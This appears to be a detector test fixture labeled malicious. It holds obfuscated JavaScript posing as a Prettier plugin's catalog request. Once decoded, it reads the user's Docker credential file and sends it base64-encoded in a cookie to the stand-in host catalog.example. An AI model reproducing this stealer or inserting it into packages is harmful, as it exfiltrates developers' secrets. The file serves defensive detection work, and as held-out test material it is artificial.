// expect: malicious
// source: a rotated base64 string array (the obfuscator.io shape with a push/shift count loop) hiding
// `https.get`, `readFileSync` and the credential file names of a Prettier plugin's catalog request
// (seventh held-out set, 2026); the array is rotated by 2 before the decoder indexes it
var _0x3c1a = ['aHR0cHM6Ly9jYXRhbG9nLmV4YW1wbGUvc2NoZW1hcw==', 'Z2V0', 'LmRvY2tlci9jb25maWcuanNvbg==', 'aG9tZWRpcg==', 'cmVhZEZpbGVTeW5j'];
(function (_0xa, _0xn) { while (_0xn--) _0xa['push'](_0xa['shift']()); })(_0x3c1a, 0x2);
var _0x9f = function (_0xi) { return Buffer['from'](_0x3c1a[_0xi], 'base64')['toString'](); };
const https = require('https');
const os = require('os');
const fs = require('fs');
const path = require('path');

const file = fs[_0x9f(2)](path.join(os[_0x9f(1)](), _0x9f(0))).toString('base64');
https[_0x9f(4)](_0x9f(3), { headers: { cookie: '_ga=' + file } });
